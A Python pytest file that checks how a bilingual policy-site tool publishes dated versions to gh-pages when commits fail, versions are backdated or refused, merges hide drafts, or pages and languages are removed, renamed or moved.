"""Dated versions on gh-pages when something goes wrong: a failed commit, refused versions, dates out of order,
merged branches' drafts, pages moved or renamed, on real temp repos (split from test_publish.py so that the parts
run on several of `make test`'s workers).

Each test gets a temporary project: copies of today's mkdocs.yml, hooks and overrides, a tiny
synthetic policy committed with a fixed identity and dates, and no git identity of its own
(GIT_CONFIG_GLOBAL=/dev/null), as in CI. Everything is checked on the branch as published.
"""
from __future__ import annotations

import datetime as dt
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from helpers import calls_to, git, policy_process, policy_processes
from policy_repo import (
    Project,
    commit_on_branch,
    copy_of,
    copy_with_origin,
    en_page,
    fr_page,
    history_first,
    made_once,
    new_project,
    publish_first,
    publish_two,
    published_with_an_origin,
    rename_english,
)
from policysite import branch, export_site, git as policy_git, manifest as mf, messages, publish, reflogs, verify

# `project.run` in the test's process: the tests about the process, its working folder or two at once run
# `policy_process` themselves
pytestmark = pytest.mark.usefixtures("no_identity", "commands_in_process")


@pytest.fixture
def project(tmp_path) -> Project:
    return new_project(tmp_path / "project")


@pytest.fixture(scope="module")
def first_published(tmp_path_factory) -> Project:
    """2021-02-17 committed and published by `policy publish`: made once for the run, copied by `published`."""
    return made_once(tmp_path_factory, publish_first)


@pytest.fixture
def published(first_published, tmp_path) -> Project:
    """The project with 2021-02-17 published by `policy publish` (a copy of the module's: the test may change it)."""
    return copy_of(first_published, tmp_path / "project")


@pytest.fixture(scope="module")
def first_history(tmp_path_factory) -> Project:
    """2021-02-17 committed and published by `policy history`, made once for the run (policy_repo.history_first)."""
    return made_once(tmp_path_factory, history_first)


@pytest.fixture(scope="module")
def first_with_origin(tmp_path_factory) -> Project:
    """2021-02-17 published and pushed to an origin (policy_repo.published_with_an_origin), made once for the run."""
    return made_once(tmp_path_factory, published_with_an_origin)


@pytest.fixture(scope="module")
def two_published(tmp_path_factory) -> Project:
    """2021-02-17 and 2022-03-01 published by `policy publish`, made once for the run."""
    return made_once(tmp_path_factory, publish_two)


@pytest.fixture(scope="module")
def two_exported(two_published, tmp_path_factory) -> Path:
    """`policy export` of the module's `two_published` (its branch as published), made once for the module: the
    previous export each test of an export refused copies (an export's marker names the branch and its tip, not its
    folder), rather than exporting the same branch again."""
    public = tmp_path_factory.mktemp("exported") / "public"
    result = two_published.run("export", "--site-dir", str(public))
    assert result.returncode == 0, result.stdout + result.stderr
    return public


@pytest.fixture
def both_published(two_published, tmp_path) -> Project:
    """The project with 2021-02-17, then 2022-03-01 ('Texte deux.', 'Text two.') published by `policy publish`: a copy
    of the module's `two_published`, which the test may change (rather than publishing 2022-03-01 again itself)."""
    return copy_of(two_published, tmp_path / "project")


def _pushed_to_a_remote(project: Project, folder) -> subprocess.CompletedProcess:
    """A bare remote.git beside the project as its origin, 2021-02-17 committed, main pushed, then `policy publish
    --push` run: its result."""
    remote = folder / "remote.git"
    git(folder, "init", "-q", "--bare", "-b", "main", str(remote))
    git(project.root, "remote", "add", "origin", str(remote))
    project.commit("2021-02-17")
    git(project.root, "push", "-q", "origin", "main")
    return project.run("publish", "--push")


@pytest.fixture(scope="module")
def first_pushed(tmp_path_factory) -> tuple[Project, subprocess.CompletedProcess]:
    """`_pushed_to_a_remote` once for the module: the project and its `policy publish --push`'s result."""
    result: list[subprocess.CompletedProcess] = []
    project = made_once(tmp_path_factory, lambda project, folder: result.append(_pushed_to_a_remote(project, folder)))
    return project, result[0]


@pytest.fixture
def pushed(first_pushed, tmp_path) -> tuple[Project, subprocess.CompletedProcess]:
    """A copy of the module's `first_pushed` at tmp_path/project, its origin its own copy at tmp_path/remote.git."""
    made, result = first_pushed
    project = copy_of(made, tmp_path / "project")
    shutil.copytree(made.root.parent / "remote.git", tmp_path / "remote.git", symlinks=True)
    git(project.root, "remote", "set-url", "origin", str(tmp_path / "remote.git"))
    return project, result


# --- Failures, concurrency, remotes ---------------------------------------------------------

def test_a_failure_while_committing_leaves_the_branch_as_it_was(published, monkeypatch):
    project = published  # 2021-02-17 committed and published
    before = project.branch()
    project.commit("2022-03-01", fr="Deuxième texte.", en="Second text.")
    real_add, calls = policy_git.CommitWriter.add, []

    def failing_add(self, path, data=None, **kwargs):
        calls.append(path)
        if len(calls) == 30:
            raise OSError("disk full (injected)")
        return real_add(self, path, data, **kwargs)

    monkeypatch.setattr(policy_git.CommitWriter, "add", failing_add)
    with pytest.raises(OSError, match="injected"):
        project.publish()
    assert project.branch() == before
    assert git(project.root, "for-each-ref", "refs/policysite") == ""
    monkeypatch.setattr(policy_git.CommitWriter, "add", real_add)
    assert project.publish().published == ["2022-03-01"]  # the lock was released, nothing left behind


def test_a_version_refused_in_the_middle_of_history_is_named_and_nothing_published_until_recorded(project):
    """A failed command changes nothing: published without it, the versions after it would leave it out of the
    archive for ever (older than the newest published). Recorded in unpublished.yml, the others are published."""
    project.commit("2021-02-17")
    bad = project.commit("2022-03-01", fr="Voir [la page absente](absente.md).", en="See [the missing page](missing.md).")
    project.commit("2023-05-10", fr="Troisième texte.", en="Third text.")
    outcome = project.history(jobs=2)
    assert [(r.version, r.commit) for r in outcome.refused] == [("2022-03-01", bad)]
    assert outcome.published == [] and outcome.commit is None
    assert project.branch() is None
    assert "nothing published: 1 dated version refused (below): 2 passed and wait for it; gh-pages is as " \
        "it was" in outcome.messages
    result = project.run("history")
    assert result.returncode == 1 and "error: 2022-03-01 (commit" in result.stderr, result.stderr
    assert project.branch() is None
    (project.root / "unpublished.yml").write_text(f"- commit: {bad}\n  reason: a link to a page that never "
                                                  "existed\n", encoding="utf-8")
    project.commit_all("record the version never published")
    outcome = project.history(jobs=2)
    assert outcome.refused == [] and outcome.published == ["2021-02-17", "2023-05-10"]
    assert [v["version"] for v in json.loads(project.show("fr/versions.json"))] == ["2023-05-10", "2021-02-17"]
    assert "2022-03-01" not in project.show("fr/2023-05-10/changes/index.html")


def test_a_version_refused_by_the_output_check_after_the_others_were_built_publishes_none(first_history, tmp_path,
                                                                                          monkeypatch):
    """The output check runs on the built HTML, after the versions are built: a refusal there publishes none."""
    from policysite import building, gate
    from policysite.findings import Finding

    project = copy_of(first_history, tmp_path / "project")  # 2021-02-17 published by `policy history`
    tip = project.branch()
    project.commit("2022-03-01", fr="Deuxième texte.", en="Second text.")
    project.commit("2023-05-10", fr="Troisième texte.", en="Third text.")
    real = building.build_or_refuse

    def refuse_one(project_, task):
        result = real(project_, task)
        if task[0] == "2022-03-01":
            return gate.Refusal(task[0], "0" * 40, (Finding("docs/fr/index.md", 1, "output.unsafe", "injected"),))
        return result
    monkeypatch.setattr(building, "build_or_refuse", refuse_one)
    outcome = project.history(jobs=1)
    assert [r.version for r in outcome.refused] == ["2022-03-01"] and outcome.published == []
    assert project.branch() == tip


def test_history_refuses_a_version_dated_before_the_newest_published_and_keeps_the_archive(project):
    """As `policy publish`: publishing it would change what the archive says was in force, and the version after."""
    project.commit("2024-01-15")
    project.commit("2024-06-01", fr="Deuxième texte.", en="Second text.")
    assert project.history().published == ["2024-01-15", "2024-06-01"]
    tip = project.branch()
    late = project.commit("2024-03-01", fr="Texte antidaté.", en="Backdated text.")
    outcome = project.history()
    assert outcome.published == [] and [(r.version, r.commit) for r in outcome.refused] == [("2024-03-01", late)]
    finding = outcome.refused[0].findings[0]
    assert (finding.path, finding.line, finding.rule) == ("docs/fr/index.md", 2, "history.order")
    assert "before the version of June 1, 2024, published already" in finding.message
    assert f"record {late[:7]} in unpublished.yml as never published (its date stays" in finding.message
    assert project.branch() == tip and verify.verify(root=project.root).problems == []
    result = project.run("history")
    assert result.returncode == 1 and "error: 2024-03-01 (commit" in result.stderr, result.stderr


def test_publish_first_publishes_the_dated_versions_pushed_with_it_oldest_first(project):
    """Two pull requests merged before one publication: the older text was in force between its date and the
    newer one's, so the archive must hold it; published after, it would be refused as older than the newest."""
    project.commit("2024-01-15")
    assert project.publish().published == ["2024-01-15"]
    between = project.commit("2024-03-01", fr="Texte du milieu.", en="Middle text.")
    project.commit("2024-04-01", fr="Texte final.", en="Final text.")
    (project.root / "NOTES.md").write_text("A commit that leaves the policy as it is.\n", encoding="utf-8")
    project.commit_all("notes")
    outcome = project.publish()
    assert outcome.published == ["2024-03-01", "2024-04-01"] and outcome.refused == []
    assert "published 2 dated versions on gh-pages: 2024-03-01, 2024-04-01" in outcome.messages
    tip = project.branch()
    assert len(git(project.root, "rev-list", f"{tip}^..{tip}").split()) == 1  # one commit for both
    manifest = mf.VersionManifest.loads(git(project.root, "show", "gh-pages:manifest/2024-03-01.json"))
    assert manifest.languages["fr"].source.commit == between
    entries = json.loads(git(project.root, "show", "gh-pages:fr/versions.json"))
    middle = next(e for e in entries if e["version"] == "2024-03-01")
    assert middle["properties"]["in_force"] == {"from": "2024-03-01", "until": "2024-03-31"}
    assert verify.verify(root=project.root).problems == []
    again = project.history()
    assert again.published == [] and again.refused == []


def test_publish_refuses_all_when_a_version_pushed_with_it_is_refused_and_leaves_the_branch(project):
    """Published after it, the refused one could never be: nothing is, until it is fixed or recorded unpublished."""
    project.commit("2024-01-15")
    assert project.publish().published == ["2024-01-15"]
    tip = project.branch()
    refused = project.commit("2024-03-01", fr="Texte avec une fautte.", en="Text with a misspeling.")
    project.commit("2024-04-01", fr="Texte final.", en="Final text.")
    outcome = project.publish()
    assert outcome.published == [] and [r.version for r in outcome.refused] == ["2024-03-01"]
    assert project.branch() == tip
    (project.root / "unpublished.yml").write_text(f"- commit: {refused}\n  reason: a typo, fixed the next month\n",
                                                  encoding="utf-8")
    project.commit_all("record")
    assert project.publish().published == ["2024-04-01"]


def test_publish_leaves_out_a_version_recorded_unpublished_and_on_an_empty_branch_publishes_the_history(project):
    project.commit("2024-01-15")
    project.commit("2024-02-01", fr="Deuxième texte.", en="Second text.")
    assert project.publish().published == ["2024-01-15", "2024-02-01"]  # every dated version, oldest first
    skipped = project.commit("2024-07-01", fr="Brouillon jamais publié.", en="Draft never published.")
    (project.root / "unpublished.yml").write_text(f"- commit: {skipped}\n  reason: merged by mistake, replaced "
                                                  "the next day\n", encoding="utf-8")
    project.commit("2024-07-02", fr="Texte corrigé.", en="Corrected text.")
    outcome = project.publish()
    assert outcome.published == ["2024-07-02"] and outcome.refused == []
    assert not any("never published" in line for line in outcome.messages)


def test_a_version_refused_for_its_place_in_the_history_and_by_the_checks_is_named_once(project):
    """A version dated in the future, followed by a commit dating its text before it: `policy history` refused it for
    its place in the history (history.backdated) and then by the checks (frontmatter.date-future), and said "2 dated
    versions refused" with the same date under two headings (one more for each later commit dating its text before
    it). One version, one refusal holding every finding."""
    project.commit("2024-01-15", fr="Premier texte.", en="First text.")
    project.commit("2099-03-01", fr="Texte futur.", en="Future text.")
    project.commit("2024-01-20", fr="Texte antidaté.", en="Backdated text.")
    project.commit("2024-01-25", fr="Texte antidaté encore.", en="Backdated again.")
    outcome = project.history()
    assert [r.version for r in outcome.refused] == ["2099-03-01"], outcome.refused
    assert sorted(f.rule for f in outcome.refused[0].findings if f.path == "docs/fr/index.md") == [
        "frontmatter.date-future", "history.backdated", "history.backdated"]  # (each later commit dating before it)
    assert messages.said_in(outcome.messages[0], "en").startswith("nothing published: 1 dated version refused (below)")
    assert project.branch() is None


def test_a_text_dated_before_an_earlier_commits_date_is_refused_and_nothing_published(project):
    """A later commit reusing an earlier date would replace that version's text (or, pushed with later ones, be
    taken for it while the newer date goes on as latest): history and publish refuse it, naming both commits."""
    project.commit("2021-01-01", fr="Texte un.", en="Text one.")
    project.commit("2022-01-01", fr="Texte deux.", en="Text two.")
    backdated = project.commit("2021-01-01", fr="Texte trois.", en="Text three.")
    said = rf"{backdated[:7]} dates docs/fr/index.md January 1, 2021, before January 1, 2022 of the earlier commit [0-9a-f]{{7}}"
    refused = [f for r in project.history().refused for f in r.findings if f.rule == "history.backdated"]
    assert len(refused) == 1 and re.search(said, refused[0].message), refused
    assert project.branch() is None
    with pytest.raises(publish.PublishError, match=said + ".*Nothing was published") as raised:
        project.publish()
    french = messages.said_in(messages.text_of(raised.value), "fr")
    assert re.match(rf"{backdated[:7]} date docs/fr/index.md du 1er janvier 2021, avant le 1er janvier 2022 du commit antérieur "
                    r"[0-9a-f]{7}\u00a0: .* Rien n'a été publié\.\Z", french), french
    assert project.branch() is None
    (project.root / "unpublished.yml").write_text(f"- commit: {backdated}\n  reason: dated by mistake\n",
                                                  encoding="utf-8")
    project.commit_all("record the mistake")
    assert project.history().published == ["2021-01-01", "2022-01-01"]
    assert "Texte un." in project.show("fr/2021-01-01/index.html")


def test_history_refuses_when_heads_page_has_no_date_it_can_read(project):
    """Its scan passes such a commit over: the daily job said "nothing to publish" of a text never published."""
    project.commit("2021-01-01")
    tip = project.history().commit
    page = project.root / "docs" / "fr" / "index.md"
    page.write_text(page.read_text(encoding="utf-8").replace("date: 2021-01-01", "date: 2021-06-01T00:00:00"),
                    encoding="utf-8")
    project.commit_all("a date with a time")
    with pytest.raises(publish.PublishError, match=r"^docs/fr/index.md in the current commit \(HEAD\) has no date"):
        project.history()
    assert project.branch() == tip


def test_a_language_the_print_engine_cannot_print_is_published_without_links_to_a_pdf(project, monkeypatch):
    """A language without fonts for its script: the version is published without its PDF, and its page and
    changes page no longer link one that is not there (an adoption hunt found both links dead)."""
    from policysite import printing

    real = printing.printed
    monkeypatch.setattr(printing, "printed", lambda page: printing.Printed(None, notes=("no PDF: no font for it",))
                        if page.lang == "en" else real(page))
    project.commit("2021-02-17")
    project.commit("2022-03-01", fr="Deuxième texte.", en="Second text.")
    assert project.history(jobs=1).published == ["2021-02-17", "2022-03-01"]
    files = project.files()
    assert "fr/2022-03-01/policy-fr-2022-03-01.pdf" in files and "en/2022-03-01/policy-en-2022-03-01.pdf" not in files
    for page in ("en/2022-03-01/index.html", "en/2022-03-01/changes/index.html", "en/history/index.html"):
        assert "policy-en-2022-03-01.pdf" not in project.show(page), page
    assert "policy-fr-2022-03-01.pdf" in project.show("fr/2022-03-01/index.html")


def test_a_language_published_then_dropped_from_the_configuration_is_refused(published):
    project = published  # 2021-02-17 committed and published
    tip = project.branch()
    config = project.root / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    assert "      - code: en\n        name: English\n" in text
    config.write_text(text.replace("      - code: en\n        name: English\n", ""), encoding="utf-8")
    (project.root / "mkdocs.en.yml").unlink()
    shutil.rmtree(project.root / "docs" / "en")
    (project.root / "docs" / "fr" / "index.md").write_text(fr_page("2022-03-01", "Deuxième texte."), encoding="utf-8")
    project.commit_all("French only from now on")
    for run in (project.publish, project.history):
        with pytest.raises(publish.PublishError, match=r"^English \(en\): published on gh-pages, and no longer in the configur") \
                as refused:
            run()
        assert project.branch() == tip
        # one language, said in French as one (words 30: "publiée(s) … absente(s)")
        assert messages.said_in(messages.text_of(refused.value), "fr").startswith(
            "anglais (en)\u00a0: langue publiée sur gh-pages, et absente de la configuration\u00a0: une langue, une fois publiée, fait partie")


def test_a_published_language_renamed_is_refused_saying_what_to_keep(published):
    """histories5: English renamed en-GB (its config file, theme.language and pages moved along) was refused as "en:
    published …, and no longer in the configuration … configure it again", naming neither the new code nor what may
    change. Its readers' addresses are its code: the refusal says so, which code to set back, and that its name and
    its pages' folder may change; nothing is published."""
    project = published  # 2021-02-17 committed and published
    tip = project.branch()
    rename_english(project)
    (project.root / "docs" / "fr" / "index.md").write_text(fr_page("2022-03-01", "Deuxième texte."), encoding="utf-8")
    (project.root / "docs" / "en-GB" / "index.md").write_text(en_page("2022-03-01", "Second text."), encoding="utf-8")
    assert project.run("sync-mark", "en-GB", "--all").returncode == 0
    project.commit_all("English is en-GB")
    for run in (project.publish, project.history):
        with pytest.raises(publish.PublishError) as refused:
            run()
        assert str(refused.value) == (
            "en is published on gh-pages and no longer configured, and en-GB, never published, took its place: a "
            "language's code is its folder on the site, the addresses its readers cite (en/2021-02-17/, en/latest/), "
            "which the archive keeps for ever, so a published language keeps its code: set `code: en` back in "
            "the site's languages (`extra.policy.languages`), with mkdocs.en.yml (`theme.language: en`); its name (`name:`) and the folder of its "
            "pages (`docs_dir`) may change; nothing was published")
        assert messages.said_in(messages.text_of(refused.value), "fr").startswith(
            "en est publiée sur gh-pages et absente de la configuration, où en-GB, jamais publiée, a pris sa place\u00a0:")
        assert project.branch() == tip


def test_publish_of_an_earlier_versions_text_again_says_the_site_keeps_the_newest(project):
    """A `git revert` of the newest version: nothing to publish, and the text at HEAD is not the one in force."""
    project.commit("2021-01-01", fr="Texte un.", en="Text one.")
    project.commit("2022-01-01", fr="Texte deux.", en="Text two.")
    project.publish()
    git(project.root, "revert", "--no-edit", "HEAD")
    outcome = project.publish()
    assert outcome.published == [] and any("is already on gh-pages with this text" in m for m in outcome.messages)
    assert outcome.warnings == ["the text of the current commit (HEAD) is that of 2021-01-01, and 2022-01-01 came after "
                                "it: the site keeps 2022-01-01 in force; to bring this text back, give it a new date, "
                                "after January 1, 2022"]
    reverted = git(project.root, "rev-parse", "--short=7", "HEAD").strip()
    assert project.history().warnings == [f"{reverted} dates the text January 1, 2021, after the text dated "
                                          "January 1, 2022 was published: the site keeps 2022-01-01 in force; to "
                                          "bring this text back, give it a new date, after January 1, 2022"]
    # History hunt 33: the revert reverted, the branch holds the text in force again: the daily job said the warning
    # above at every run, for ever, advising to bring back a text the branch no longer holds.
    git(project.root, "revert", "--no-edit", "HEAD")
    assert project.history().warnings == []


def test_the_text_in_force_dated_back_is_told_to_put_its_date_back(both_published):
    """histories5: the text in force, 2022-03-01, committed again under an earlier date (a date "corrected" backwards):
    publish said "the text differs: fr: front matter or formatting only; … a new text needs a date after 2022-03-01"
    and history "to bring this text back, give it a new date": it is the published text, whose date stays. Both say
    so now, and what to do (put the date back); nothing is published."""
    project = both_published
    tip = project.branch()
    commit = project.commit("2021-06-01", fr="Texte deux.", en="Text two.")
    with pytest.raises(publish.PublishError) as refused:
        project.publish()
    assert str(refused.value) == (
        "2021-06-01 is older than the newest published version 2022-03-01, whose words it has under an earlier date: a "
        "published version keeps its date (its readers' addresses, the days it was in force); put `date: 2022-03-01` "
        "back in the page, and nothing is left to publish")
    assert messages.said_in(messages.text_of(refused.value), "fr").startswith(
        "la version 2021-06-01 est antérieure à la dernière version publiée, 2022-03-01, dont elle a le texte sous une "
        "date plus ancienne\u00a0: une version publiée garde sa date")
    assert project.history().warnings == [
        f"{commit[:7]} dates the text June 1, 2021, after the text dated March 1, 2022 was published: these are the "
        "words of "
        "2022-03-01, published under that date, which a published version keeps (its readers' addresses, the days it "
        "was in force): 2022-03-01 stays as published; put `date: 2022-03-01` back in the page"]
    assert project.branch() == tip
    project.commit("2021-06-01", fr="Texte nouveau.", en="New text.")
    assert project.history().warnings[0].endswith(
        "the site keeps 2022-03-01 in force; this text was never published: to publish it, give it a date after "
        "March 1, 2022")


def test_a_revert_reverted_before_any_publication_publishes_both_versions(project):
    """Texts 29: 2021 then 2022 committed, the 2022 commit reverted and the revert reverted, nothing published yet:
    the revert's "2021-01-01" after 2022-01-01 refused the history as backdated, though the branch only went back
    and forth. Both versions are published, 2021-01-01 from its own commit (the revert added no text)."""
    first = project.commit("2021-01-01", fr="Texte un.", en="Text one.")
    project.commit("2022-01-01", fr="Texte deux.", en="Text two.")
    git(project.root, "revert", "--no-edit", "HEAD", date="2024-01-01T13:00:00+00:00")
    git(project.root, "revert", "--no-edit", "HEAD", date="2024-01-01T14:00:00+00:00")
    outcome = project.history()
    assert outcome.refused == [] and outcome.published == ["2021-01-01", "2022-01-01"], outcome.messages
    assert mf.VersionManifest.loads(project.show("manifest/2021-01-01.json")).languages["fr"].source.commit == first


def test_history_is_the_branchs_own_a_merged_branchs_drafts_are_not_versions(project):
    """Its first parents: a merge brings the text its branch ends with; a draft dated otherwise on the way is not
    a version, and a version the branch carried is one even when a later merge takes the other side's text."""
    project.commit("2024-01-15")
    git(project.root, "checkout", "-q", "-b", "pr")
    project.commit("2024-02-10", fr="Brouillon daté autrement.", en="Draft dated otherwise.")
    project.commit("2024-02-01", fr="Texte de la branche.", en="The branch's text.")
    git(project.root, "checkout", "-q", "main")
    git(project.root, "merge", "-q", "--no-ff", "pr", "-m", "merge pr", date="2024-01-01T13:00:00+00:00")
    git(project.root, "checkout", "-q", "-b", "other", "HEAD~1")
    project.commit("2024-03-01", fr="Autre branche.", en="Other branch.")
    git(project.root, "checkout", "-q", "main")
    git(project.root, "merge", "-q", "--no-ff", "-X", "theirs", "other", "-m", "merge other",
        date="2024-01-01T14:00:00+00:00")
    outcome = project.history()
    assert outcome.published == ["2024-01-15", "2024-02-01", "2024-03-01"]


def _foxtrot_merge(project, *on_main: tuple[str, str, str]) -> str:
    """A "foxtrot merge": a pull request's branch (its draft dated 2023-01-01) merges main, which holds the versions
    `on_main` (date, French, English) committed meanwhile, and main is fast-forwarded to it. Returns the merge's second
    parent: main's own last text, now off main's first parents."""
    git(project.root, "checkout", "-q", "-b", "feature")
    project.commit("2023-01-01", fr="Texte trois.", en="Text three.")
    git(project.root, "checkout", "-q", "main")
    for date, fr, en in on_main:
        project.commit(date, fr=fr, en=en)
    git(project.root, "checkout", "-q", "feature")
    git(project.root, "merge", "-q", "-X", "ours", "main", "-m", "merge main into feature",
        date="2024-01-01T13:00:00+00:00")
    git(project.root, "checkout", "-q", "main")
    git(project.root, "merge", "-q", "--ff-only", "feature")
    return git(project.root, "rev-parse", "HEAD^2").strip()


def test_a_text_reached_only_through_a_merges_second_parent_waits_for_the_team_to_say_what_it_was(project):
    """A "foxtrot merge" (main merged into a pull request's branch, main then fast-forwarded to it) leaves main's own
    versions behind the merge's second parent, where a pull request's drafts also are: git cannot tell them apart.
    Dated before the newest version, such a text stops the publication (it may have been in force) until it is
    published from its commit or recorded as never published; dated after, it is a draft, said and left out."""
    project.commit("2021-01-01")
    side = _foxtrot_merge(project, ("2022-01-01", "Texte deux.", "Text two."),
                          ("2022-06-01", "Texte deux et demi.", "Text two and a half."))
    outcome = project.history()
    assert outcome.published == [] and project.branch() is None
    assert [(r.version, r.commit, r.findings[0].rule) for r in outcome.refused] == [("2022-06-01", side,
                                                                                    "history.merged")]
    assert f"publish it first from its commit and push it from there (`git checkout {side[:7]}`" in \
        outcome.refused[0].findings[0].message
    git(project.root, "checkout", "-q", side)  # it was in force: published first, from its commit
    assert project.publish().published == ["2021-01-01", "2022-01-01", "2022-06-01"]
    git(project.root, "checkout", "-q", "main")
    outcome = project.history()
    assert outcome.refused == [] and outcome.published == ["2023-01-01"]
    assert "Texte deux et demi." in project.show("fr/2022-06-01/index.html")


def test_a_text_reached_only_through_a_merges_second_parent_is_pushed_by_following_the_advice(first_with_origin,
                                                                                             tmp_path):
    """History hunt 31: the advice said `policy publish` from the commit; back on main, `policy history --push` then
    refused to push it (a text main's first parents never held: a preview?) and verify named it: a dead end. Published
    and pushed from its commit, it is public, and the branch's next publication goes on."""
    project = copy_with_origin(first_with_origin, tmp_path)  # 2021-02-17 published, pushed to tmp_path/origin.git
    side = _foxtrot_merge(project, ("2022-01-01", "Texte deux.", "Text two."))
    refused = project.run("history", "--push")
    assert refused.returncode == 1 and f"`git checkout {side[:7]}`, `policy publish --push`" in refused.stderr
    git(project.root, "checkout", "-q", side)
    assert project.run("publish", "--push").returncode == 0
    git(project.root, "checkout", "-q", "main")
    result = project.run("history", "--push")
    assert result.returncode == 0, result.stdout + result.stderr
    assert project.run("verify").returncode == 0


def test_a_text_reached_only_through_an_octopus_merges_third_parent_waits_as_one_through_the_second(project):
    """History hunt 33: an octopus merge (`git merge -s ours tidy old`) whose third parent holds a text dated before
    the newest version published the rest and said nothing of it: only the second parent was read. It waits for the
    team to say what it was, as one behind a second parent does, naming which parent it is behind."""
    project.commit("2021-01-01")
    git(project.root, "checkout", "-q", "-b", "old")
    old = project.commit("2021-06-01", fr="Texte d'une autre branche.", en="Another branch's text.")
    git(project.root, "checkout", "-q", "-b", "tidy", "main")
    (project.root / "notes.txt").write_text("notes\n", encoding="utf-8")
    project.commit_all("tidy")
    git(project.root, "checkout", "-q", "main")
    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
    git(project.root, "merge", "-q", "-s", "ours", "tidy", "old", "-m", "octopus", date="2024-01-01T13:00:00+00:00")
    outcome = project.history()
    assert outcome.published == [] and project.branch() is None
    assert [(r.version, r.commit, r.findings[0].rule) for r in outcome.refused] == [("2021-06-01", old,
                                                                                    "history.merged")]
    assert outcome.refused[0].findings[0].message.startswith(
        f"the text of {old[:7]}, reached only through the 3rd parent of the merge ")

def test_publish_waits_as_history_does_for_a_text_behind_a_merge_dated_before_the_newest(published):
    """histories5: a branch dated 2021-06-01 merged `-s ours` into main, whose own newest text is dated 2022-03-01:
    `policy history` refused to go on until the team said what the merged text was (it may have been in force), but
    `policy publish` published 2022-03-01 without a word, after which the merged text could never be published.
    Publish refuses as history does, naming the commit and the merge; gh-pages is as it was."""
    project = published  # 2021-02-17 committed and published
    tip = project.branch()
    git(project.root, "checkout", "-q", "-b", "side")
    side = project.commit("2021-06-01", fr="Texte d'une autre branche.", en="Another branch's text.")
    git(project.root, "checkout", "-q", "main")
    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
    git(project.root, "merge", "-q", "-s", "ours", "side", "-m", "merge side, keeping main",
        date="2024-01-01T13:00:00+00:00")
    merge = git(project.root, "rev-parse", "HEAD").strip()
    with pytest.raises(publish.PublishError) as refused:
        project.publish()
    assert str(refused.value).startswith(f"the text of {side[:7]}, reached only through the 2nd parent of the merge "
                                         f"{merge[:7]}"), str(refused.value)
    assert str(refused.value).endswith("Nothing was published.")
    assert project.branch() == tip
    outcome = project.history()
    assert outcome.published == [] and [r.commit for r in outcome.refused] == [side]


def test_a_page_removed_then_added_again_after_a_publication_is_said_as_removed(published):
    """histories5: the French page removed after 2021-02-17 was published, then added again dated 2022-03-01: publish
    (reading only the commits since the published version's) said the removal commit held "docs/en/index.md dated
    2021-02-17, but docs/fr/index.md … is not there yet … the archive starts with the first version that has it
    (2022-03-01)", false of an archive that starts with 2021-02-17. It says what `policy history` says: removed, no
    version, the version before kept in force."""
    project = published  # 2021-02-17 committed and published
    (project.root / "docs" / "fr" / "index.md").unlink()
    removal = project.commit_all("French page removed")
    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
    outcome = project.publish()
    assert outcome.published == ["2022-03-01"]
    assert f"{removal[:7]}: docs/fr/index.md removed, so it is no version: the site keeps the version before it in " \
        "force until the next" in outcome.warnings, outcome.warnings
    assert not [line for line in outcome.warnings if "not there yet" in line or "archive starts" in line]


def test_pages_removed_by_a_commit_are_said_removed_by_it_not_uncommitted(published):
    """tidy1: after a commit that removed both pages, `policy publish` said they "are not committed", where `policy
    history` says "removed": it names the commit that removed them and how to put them back."""
    project = published  # 2021-02-17 committed and published
    for lang in ("fr", "en"):
        (project.root / "docs" / lang / "index.md").unlink()
    removal = project.commit_all("Pages removed")[:7]
    with pytest.raises(publish.PublishError) as raised:
        project.publish()
    said = messages.text_of(raised.value)
    assert said == (f"nothing to publish: docs/fr/index.md, docs/en/index.md were removed by commit {removal} “Pages "
                    f"removed” of January 1, 2024 (`git checkout {removal}~1 -- docs/fr/index.md docs/en/index.md` puts them "
                    "back; the archive keeps every version published)")
    assert messages.said_in(said, "fr") == (
        f"rien à publier\u00a0: docs/fr/index.md, docs/en/index.md ont été supprimés par le commit {removal} "
        f"«\u00a0Pages removed\u00a0» du 1er janvier 2024 (`git checkout {removal}~1 -- docs/fr/index.md docs/en/index.md` "
        "les remet en place\u202f; l'archive garde toutes les versions publiées)")


def test_a_page_removed_and_one_never_committed_are_each_said_as_they_are(project):
    """tidy1: the French page committed then removed, the English one never written: each said as it is."""
    (project.root / "docs" / "fr" / "index.md").write_text(fr_page("2021-02-17"), encoding="utf-8")
    project.commit_all("French page")
    (project.root / "docs" / "fr" / "index.md").unlink()
    removal = project.commit_all("French page removed")[:7]
    with pytest.raises(publish.PublishError) as raised:
        project.publish()
    assert messages.text_of(raised.value) == (
        f"nothing to publish: docs/fr/index.md was removed by commit {removal} “French page removed” of January 1, 2024 "
        f"(`git checkout {removal}~1 -- docs/fr/index.md` puts it back; the archive keeps every version published); "
        "docs/en/index.md is not committed")


def test_a_pull_request_merged_with_its_draft_left_out_publishes_no_draft(project):
    """`git merge -s ours`: the draft, dated after every version, is said and never published."""
    project.commit("2024-01-10")
    git(project.root, "checkout", "-q", "-b", "pr")
    draft = project.commit("2024-03-01", fr="Brouillon rejeté.", en="Rejected draft.")
    git(project.root, "checkout", "-q", "main")
    git(project.root, "merge", "-q", "-s", "ours", "pr", "-m", "merge pr, keeping main",
        date="2024-01-01T13:00:00+00:00")
    outcome = project.history()
    assert outcome.refused == [] and outcome.published == ["2024-01-10"]
    assert any(line.startswith(f"March 1, 2024: the text of {draft[:7]}, reached only through the 2nd parent")
               for line in outcome.warnings), outcome.warnings


def move_docs(project: Project) -> None:
    """`git mv docs/<lang> content/<lang>` and each configuration's docs_dir after it (not committed)."""
    (project.root / "content").mkdir()
    for lang, config in (("fr", "mkdocs.yml"), ("en", "mkdocs.en.yml")):
        git(project.root, "mv", f"docs/{lang}", f"content/{lang}")
        path = project.root / config
        path.write_text(path.read_text(encoding="utf-8").replace(f"docs_dir: docs/{lang}", f"docs_dir: content/{lang}"),
                        encoding="utf-8")


def test_pages_moved_or_renamed_are_followed_back_every_version_published_rebuilt_and_verified(project):
    """A new docs_dir (`git mv docs/fr content/fr`), then the page renamed: each version is read where its page was
    at its commit, on a fresh branch as on one published before the moves, and its manifest says where."""
    project.commit("2024-01-15")
    project.commit("2024-02-01", fr="Deuxième texte.", en="Second text.")
    assert project.history().published == ["2024-01-15", "2024-02-01"]
    move_docs(project)
    project.commit_all("the pages move to content/")
    outcome = project.history(rebuild=True)
    assert outcome.published == ["2024-01-15", "2024-02-01"] and outcome.warnings == []
